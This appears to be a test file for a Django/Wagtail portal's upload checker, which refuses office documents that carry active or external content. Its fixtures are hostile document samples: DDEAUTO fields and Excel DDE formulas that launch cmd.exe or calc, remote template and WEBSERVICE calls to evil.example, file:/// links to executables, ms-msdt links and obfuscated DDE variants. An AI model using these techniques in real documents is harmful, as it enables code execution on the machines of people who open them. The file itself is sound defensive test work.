"""FAULTS 11: an editor's office file with a macro, an object or an external part is refused with a message.

Ordinary files of the same kinds are taken. Each hostile file is an ordinary one with one thing changed, so the ordinary
one is its control.
"""

from typing import Any
from xml.sax.saxutils import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from wagtail.documents.models import Document

from portal.core.files.documents import check_document
from portal.core.files.exceptions import FileRefused
from tests.cms_pages.editing import staff
from tests.hostile_documents import (
    MICROSOFT,
    OLE,
    archive,
    changed,
    chart,
    field,
    formula,
    relation,
    rtf,
    sheet,
    text,
    types,
    word,
)

DEFAULT = 'xmlns="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
OTHER = 'xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
EMPTY = archive({"a.txt": b"x"})
ORDINARY = {
    "docx": ("a.docx", word("<w:r><w:t>Решение</w:t></w:r>")),
    "docx with links": ("a.docx", word("", relation("hyperlink", "https://gov.ru", external=True))),
    "docx with a link to a law": ("a.docx", word("", relation("hyperlink", "consultantplus://x", external=True))),
    "docx with fields": ("a.docx", word(field(" PAGE ") + field(' HYPERLINK "https://gov.ru" ') + field(" TOC \\o "))),
    "docx with links to bookmarks": (
        "a.docx",
        word(field(' HYPERLINK \\l "_Toc1" ') + field(" HYPERLINK \\l _Toc1 \\h ")),
    ),
    "docx with a link and a tip": (
        "a.docx",
        word(
            field(
                ' HYPERLINK "https://gov.ru" \\l "part" \\o "Закон “О воде”, часть 1: C" \\t "_blank" \\* MERGEFORMAT '
            )
        ),
    ),
    "docx with a link to mail": ("a.docx", word(field(' HYPERLINK "mailto:a@b.ru" \\h '))),
    "docx with a table of contents": (
        "a.docx",
        word(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK \\l "_Toc1"</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{field(" PAGEREF _Toc1 ")}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ),
    "docx with a field of mail merge": (
        "a.docx",
        word(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
            f'{field(" MERGEFIELD a ")}<w:r><w:instrText> = 1 "a"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ),
    "docx with a chart": ("a.docx", word(more={"word/embeddings/a.xlsx": sheet()})),
    "docx in capitals": ("A.DOCX", word()),
    "xlsx": ("a.xlsx", sheet()),
    "xlsx with a chart": ("a.xlsx", sheet(chart)),
    "xlsx with formulas": ("a.xlsx", formula("SUM(B1:B9)&amp;HYPERLINK(&quot;https://gov.ru&quot;)")),
    **{
        f"xlsx with {value}": ("a.xlsx", formula(escape(value)))
        for value in (
            'HYPERLINK("https://gov.ru","x")',
            'HYPERLINK("https://gov.ru/"&A1,"x")',
            'HYPERLINK("#\'Лист 1\'!A"&ROW(),"x")',
            "HYPERLINK(A1)",
            "HYPERLINK('Лист 1'!$A$1,\"x\")",
            "HYPERLINK(Table1[@Link],1)",
            "'Лист 1:Лист 3'!A1+SUM('Итоги'!B1:B9)/2",
            'IF(A1="http://a",1,"it\'s 1/2")',
        )
    },
    "odt": ("a.odt", text("<text:a xlink:href='https://gov.ru'>x</text:a><draw:image xlink:href='Pictures/1.png'/>")),
    "odt with an empty library": ("a.odt", text(more={"Basic/Standard/script-lb.xml": b"<library/>"})),
    "ods": ("a.ods", text("<table:table table:formula='of:=SUM([.A1])'/>", kind="spreadsheet")),
    "rtf": ("a.rtf", rtf(r'Решение {\field{\*\fldinst HYPERLINK "https://gov.ru"}{\fldrslt x}}')),
    "rtf of Word": (
        "a.rtf",
        rtf(
            r"\uc1{\field{\*\fldinst {\rtlch\b HYPERLINK }{\rtlch \\l}{ \'22a\u1090\'f2\'22}{{\*\datafield "
            + "\n00d0c9ea79f9bace118c8200aa004ba90b02" * 200
            + r"}}}{\fldrslt x}}"
        ),
    ),
    "txt": ("a.txt", "Решение < 5 м³ & больше".encode()),
    "txt of Windows": ("a.txt", "Решение".encode("cp1251")),
    "txt of Notepad": ("a.txt", "Решение".encode("utf-16")),
}

DOCX = {
    "a macro": word(more={"word/vbaProject.bin": OLE}),
    "a macro by its type": word(
        declared=types('<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>')
    ),
    "a macro under another name": word("", relation(MICROSOFT + "vbaProject", "a.xml"), more={"word/a.xml": b"<a/>"}),
    "a macro in a picture": word(more={"word/media/image1.png": OLE}),
    "a program": word(more={"word/media/image1.png": b"MZ" + b"\0" * 99}),
    "a document with macros, renamed": word(
        declared=types(main="x").replace(b"openxmlformats-officedocument.x.main", b"ms-word.document.macroEnabled.main")
    ),
    "a template": word("", relation("attachedTemplate", "https://evil.example/a.dotm", external=True)),
    "a template on this machine": word("", relation("attachedTemplate", "file:///C:/a.dotx", external=True)),
    "an object": word("", relation("oleObject", "embeddings/oleObject1.bin")),
    "an object elsewhere": word("", relation("oleObject", "https://evil.example/a", external=True)),
    "ActiveX": word("", relation("control", "activeX/activeX1.xml")),
    "a picture elsewhere": word("", relation("image", "https://evil.example/a.png", external=True)),
    "a picture by an address without a mode": word("", relation("image", "https://evil.example/a.png")),
    "a frame": word("", relation("frame", "https://evil.example/", external=True)),
    "another document": word("", relation("aFChunk", "a.docx")),
    "another document as an element": word("<w:altChunk/>"),
    "a page of the web": word(more={"word/a.html": b"<script>"}),
    "DDE": word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "DDE in pieces": word(field(" D", "DE", "AUTO", " cmd ")),
    "DDE in small letters": word(field(" ddeauto cmd ")),
    "DDE as a simple field": word('<w:fldSimple w:instr=" DDE cmd "/>'),
    "DDE without an end": word('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:instrText>DDE cmd</w:instrText>'),
    "DDE put together by a field": word(field(" QUOTE 68 68 69 ")),
    "a field of a field": word(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{field(" SET a b ")}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "a text elsewhere": word(field(' INCLUDETEXT "\\\\\\\\evil\\\\a.docx" ')),
    "a link to a program": word(field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
    **{
        f"a link {instruction}": word(field(f" {escape(instruction)} "))
        for instruction in (
            r'HYPERLINK \l "x" "file:///c:/a.exe"',
            r'HYPERLINK \o "tip" "file:///c:/a.exe"',
            r'HYPERLINK \o tip \n "file:///c:/a.exe"',
            r'HYPERLINK "https://gov.ru" "file:///c:/a.exe"',
            r'HYPERLINK \o "tip” file:///c:/a.exe "',
            r"HYPERLINK \\evil\a",
            r'HYPERLINK "\\\\evil\\a"',
            r'HYPERLINK"file:///c:/a.exe"',
            r"HYPERLINK fi\le:///c:/a.exe",
            r'HYPERLINK "https://gov.ru',
            r"HYPERLINK \h file:///c:/a.exe",
        )
    },
    "a link whose address is another field": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "</w:instrText></w:r>'
        f'{field(" REF a ")}<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "a kind of field with another field in it": word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D</w:instrText></w:r>'
        f'{field(" SEQ a ")}<w:r><w:instrText>DE cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "a link to a share": word("", relation("hyperlink", "file://///evil/share", external=True)),
    "a link with a program": word("", relation("hyperlink", "javascript:alert(1)", external=True)),
    "a link to a diagnostic tool": word("", relation("hyperlink", "ms-msdt:/id", external=True)),
    "another prefix": word().replace(b"x", b"x")
    and archive(
        {
            "[Content_Types].xml": types(),
            "word/document.xml": b'<z:document xmlns:z="x"><z:altChunk/></z:document>',
        }
    ),
    "UTF-16": archive(
        {
            "[Content_Types].xml": types(),
            "word/document.xml": '<?xml version="1.0" encoding="utf-16"?><a><altChunk/></a>'.encode("utf-16"),
        }
    ),
    "names that lead out": word(more={"../../a.xml": b"<a/>"}),
    "an absolute name": word(more={"/etc/a.xml": b"<a/>"}),
    "a name of Windows": word(more={"word\\..\\a.xml": b"<a/>"}),
    "a program inside of a chart's numbers": word(
        more={"word/embeddings/a.xlsx": formula("WEBSERVICE(&quot;https://evil.example&quot;)")}
    ),
}
XLSX = {
    "DDE": formula("cmd|'/c calc'!A0"),
    "DDE with words before it": formula("1+MSEXCEL|&apos;\\..\\cmd.exe&apos;!A"),
    "a web service": formula("WEBSERVICE(&quot;https://evil.example&quot;)"),
    "a link to a program": formula("HYPERLINK(&quot;file:///c:/a.exe&quot;)"),
    **{
        f"the formula {value}": formula(escape(value))
        for value in (
            'HYPERLINK(CHAR(102)&"ile:///x")',
            'HYPERLINK("fi"&"le:///x")',
            'HYPERLINK(""&"file:///x")',
            'HYPERLINK("www."&"a")',
            'HYPERLINK(IF(1,"file:///x","https://gov.ru"))',
            'HYPERLINK("file:""///x","a")',
            'hyperlink ( CONCAT("fi","le:///x") )',
            r"'\\evil\share\[x.xlsx]S'!A1",
            r"SUM('C:\a\[x.xlsx]S'!A1)",
            "'http://e/[x.xlsx]S'!A1",
            "1+'it''s http://e/[x.xlsx]S'!A1",
            r"\\evil\share\[x.xlsx]S!A1",
            'STOCKHISTORY("a",1)',
        )
    },
    "a macro sheet": changed(
        sheet(),
        "[Content_Types].xml",
        b"</Types>",
        b'<Override PartName="/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    ),
    "a macro": archive({"[Content_Types].xml": types(main="spreadsheetml.sheet"), "xl/vbaProject.bin": OLE}),
    "a link to another book": changed(
        sheet(),
        "xl/_rels/workbook.xml.rels",
        b"</Relationships>",
        relation("externalLink", "externalLinks/externalLink1.xml").encode() + b"</Relationships>",
    ),
    "a connection": changed(
        sheet(),
        "xl/_rels/workbook.xml.rels",
        b"</Relationships>",
        relation("connections", "connections.xml").encode() + b"</Relationships>",
    ),
    "a DDE link": archive(
        {
            "[Content_Types].xml": types(main="spreadsheetml.sheet"),
            "xl/externalLinks/a.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
        }
    ),
}
ODT = {
    "a macro": text(more={"Basic/Standard/Module1.xml": b"<module/>"}),
    "a script": text(more={"Scripts/python/a.py": b"import os"}),
    "a script in the content": text("<office:script script:language='x'/>"),
    "a script under another prefix": text(f"<o:scripts {OTHER}><o:script script:language='x'/></o:scripts>"),
    "a script without a prefix": text(f"<scripts {DEFAULT}><script script:language='x'>a</script></scripts>"),
    "a script in the text": text("<text:script script:language='JavaScript'>a</text:script>"),
    "a script in the text under another prefix": text(
        "<x:script xmlns:x='urn:oasis:names:tc:opendocument:xmlns:text:1.0'/>"
    ),
    "a formula of another file": text("<table:table-cell table:formula=\"of:=['file:///c:/a.ods'#$S.A1]\"/>"),
    "a formula of another file beside it": text("<table:table-cell table:formula=\"of:=['a.ods'#$S.A1]\"/>"),
    "an event": text("<script:event-listener xlink:href='vnd.sun.star.script:a'/>"),
    "an object": text(more={"Object 1": OLE}),
    "an object as an element": text("<draw:object-ole xlink:href='./Object 1'/>"),
    "a picture elsewhere": text("<draw:image xlink:href='https://evil.example/a.png'/>"),
    "a picture on a share": text("<draw:image xlink:href='\\\\evil\\a.png'/>"),
    "a section elsewhere": text("<text:section-source xlink:href='../a.odt'/>"),
    "a frame": text("<draw:floating-frame xlink:href='https://evil.example'/>"),
    "DDE": text("<text:dde-connection-decl office:dde-application='cmd'/>"),
    "DDE as a formula": text(
        "<table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)'/>"
    ),
    "a link to a program": text("<text:a xlink:href='file:///c:/a.exe'/>"),
}
RTF = {
    "an object": rtf(r"{\object\objemb{\*\objdata 0105}}"),
    "an object's data alone": rtf(r"{\*\objdata 0105}"),
    "an object over lines": rtf("{\\object\r\n\\objupdate}"),
    "a template": rtf(r"{\*\template https://evil.example/a.dotm}"),
    "binary data": rtf(r"{\pict\bin4 abcd}"),
    "DDE": rtf(r"{\field{\*\fldinst DDEAUTO cmd}}"),
    "DDE in groups": rtf(r"{\field{\*\fldinst {\b D}{\i DE}AUTO cmd}}"),
    "DDE in codes": rtf(r"{\field{\*\fldinst \'44\'44\u69?AUTO cmd}}"),
    "a picture elsewhere": rtf(r'{\field{\*\fldinst INCLUDEPICTURE "https://evil.example/a.png"}}'),
    "a link to a program": rtf(r'{\field{\*\fldinst HYPERLINK \\o "tip" "file:///c:/a.exe"}}'),
    "a link behind a long tip": rtf(r'{\field{\*\fldinst HYPERLINK \\o "%s" "file:///c:/a.exe"}}' % ("x" * 9000)),
    "a link behind data": rtf(r'{\field{\*\fldinst HYPERLINK {\*\datafield 00d0}"file:///c:/a.exe"}}'),
    "DDE behind characters for old readers": rtf(r"{\field{\*\fldinst \u68X\u68X\u69X cmd}}"),
    "DDE without characters for old readers": rtf(r"\uc0{\field{\*\fldinst \u68DE cmd}}"),
    "DDE with a width of its own": rtf(r"{\field{\*\fldinst \uc2\u68XX\uc0\u68 E cmd}}"),
    "DDE and a tab": rtf(r"{\field{\*\fldinst DDE\tab cmd}}"),
    "markup": rtf("<script>alert(1)</script>"),
}
HOSTILE = {
    f"{name}: {what}": (f"a.{name}", content)
    for name, cases in (("docx", DOCX), ("xlsx", XLSX), ("odt", ODT), ("rtf", RTF))
    for what, content in cases.items()
} | {
    "txt: markup": ("a.txt", b"<script>alert(1)</script>"),
    "txt: markup below": ("a.txt", b"words\n" * 500 + b"<!DOCTYPE html>"),
    "txt: markup in UTF-16": ("a.txt", "<html>".encode("utf-16")),
}
BOMB = b"<a>" + b" " * (101 * 1024 * 1024) + b"</a>"
ENTITIES = b'<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'
OTHERWISE = {
    "html named docx": ("a.docx", b"<html><script>alert(1)</script></html>", "wrong_suffix"),
    "html named rtf": ("a.rtf", b"<html>", "wrong_suffix"),
    "html named xlsx": ("a.xlsx", b"<table>", "wrong_suffix"),
    "a zip named docx": ("a.docx", EMPTY, "wrong_suffix"),
    "an xlsx named docx": ("a.docx", sheet(), "wrong_suffix"),
    "an odt named ods": ("a.ods", text(), "wrong_suffix"),
    "a pdf named txt": ("a.txt", b"%PDF-1.7", "wrong_suffix"),
    "a program named txt": ("a.txt", b"MZ\x90", "wrong_suffix"),
    "NUL in a txt": ("a.txt", b"a\0b", "wrong_suffix"),
    "NUL in an rtf": ("a.rtf", rtf("a\0b"), "broken"),
    "an old document": ("a.docx", OLE, "wrong_suffix"),
    "an rtf of instructions inside of each other": ("a.rtf", rtf(r"{\fldinst PAGE" * 20_000), "too_complex"),
    "an rtf of many widths": ("a.rtf", rtf(r"\uc1\uc2\uc3\uc4\uc5"), "too_complex"),
    "an empty file": ("a.txt", b"", "empty"),
    "no suffix": ("docx", word(), "wrong_suffix"),
    "entities": ("a.docx", word(more={"word/a.xml": ENTITIES}), "broken"),
    "broken XML": ("a.docx", word(more={"word/a.xml": b"<a>"}), "broken"),
    "half an archive": ("a.docx", word()[:-30], "broken"),
    "an archive before the archive": ("a.docx", EMPTY + word(), "broken"),
    "one name twice": ("a.docx", word(more={"WORD/document.xml": b"<a/>"}), "broken"),
    "many entries": ("a.docx", word(more={f"word/{number}.xml": b"" for number in range(5001)}), "too_complex"),
    "encrypted text": ("a.odt", text(more={"META-INF/a.xml": b"<encryption-data/>"}), "encrypted"),
}


def refusal(name: str, content: bytes) -> str:
    try:
        check_document(content, name)
    except FileRefused as refused:
        return refused.code
    return ""


@pytest.mark.parametrize(("name", "content"), ORDINARY.values(), ids=ORDINARY)
def test_an_ordinary_document_is_taken(name: str, content: bytes) -> None:
    assert refusal(name, content) == ""


@pytest.mark.parametrize(("name", "content"), HOSTILE.values(), ids=HOSTILE)
def test_a_program_or_what_lies_elsewhere_is_seen(name: str, content: bytes) -> None:
    assert refusal(name, content) == "active_content"


@pytest.mark.parametrize(("name", "content", "code"), OTHERWISE.values(), ids=OTHERWISE)
def test_what_is_not_what_its_name_says_is_refused(name: str, content: bytes, code: str) -> None:
    assert refusal(name, content) == code


def test_a_formula_of_many_blanks_is_read_in_linear_time() -> None:
    """A pattern that tries each split of the blanks would not come to an end here."""
    assert refusal("a.xlsx", formula("A1|" + " " * 300_000)) == ""


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    assert refusal("a.xlsx", archive({"[Content_Types].xml": types(), "xl/a.xml": BOMB})) == "too_complex"


def test_an_encrypted_archive_is_refused() -> None:
    content = bytearray(word())
    for mark, place in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        content[content.find(mark) + place] |= 1
    assert refusal("a.docx", bytes(content)) == "encrypted"


def test_a_size_that_the_archive_understates_is_not_believed() -> None:
    content = bytearray(archive({"[Content_Types].xml": types(), "word/a.xml": b"<a>" + b" " * 9999 + b"</a>"}))
    at = content.rfind(b"PK\1\2") + 24
    content[at : at + 4] = (50).to_bytes(4, "little")
    assert refusal("a.docx", bytes(content)) == "broken"


@pytest.mark.django_db
class TestAtTheForm:
    @pytest.fixture
    def editor(self) -> Client:
        client = Client()
        client.force_login(staff("editor"))
        return client

    def posted(self, editor: Client, name: str, content: bytes) -> str:
        data = {"title": "Файл", "file": SimpleUploadedFile(name, content)}
        return editor.post("/admin/documents/add/", data, follow=True).content.decode()

    def test_the_reason_is_said_and_nothing_is_stored(self, editor: Client) -> None:
        html = self.posted(editor, "a.docx", DOCX["DDE"])
        assert "a.docx: содержит программу" in html
        assert "Расширение файлов" not in html
        assert not Document.objects.exists()

    @pytest.mark.parametrize("ending", ["docx", "xlsx", "txt"])
    def test_the_limit_that_is_said_is_the_limit_that_holds(self, editor: Client, settings: Any, ending: str) -> None:
        settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024 * 1024
        html = self.posted(editor, f"a.{ending}", b"x" * (1024 * 1024 + 1))
        assert "1,0 МБ" in html.replace("\u00a0", " ")
        assert not Document.objects.exists()

    def test_a_replaced_file_is_looked_into_too(self, editor: Client) -> None:
        self.posted(editor, "a.docx", word())
        document = Document.objects.get()
        data = {"title": "Файл", "file": SimpleUploadedFile("b.docx", DOCX["DDE"])}
        editor.post(f"/admin/documents/edit/{document.pk}/", data)
        document.refresh_from_db()
        assert document.filename.startswith("a")

    @pytest.mark.parametrize("address", ["/admin/documents/multiple/add/", "/admin/documents/chooser/create/"])
    def test_other_forms_look_into_it_too(self, editor: Client, address: str) -> None:
        upload = SimpleUploadedFile("a.docx", DOCX["DDE"])
        name = "files[]" if "multiple" in address else "document-chooser-upload-file"
        data = {name: upload, "title": "x", "document-chooser-upload-title": "x"}
        editor.post(address, data, headers={"X-Requested-With": "XMLHttpRequest"})
        assert not Document.objects.exists()
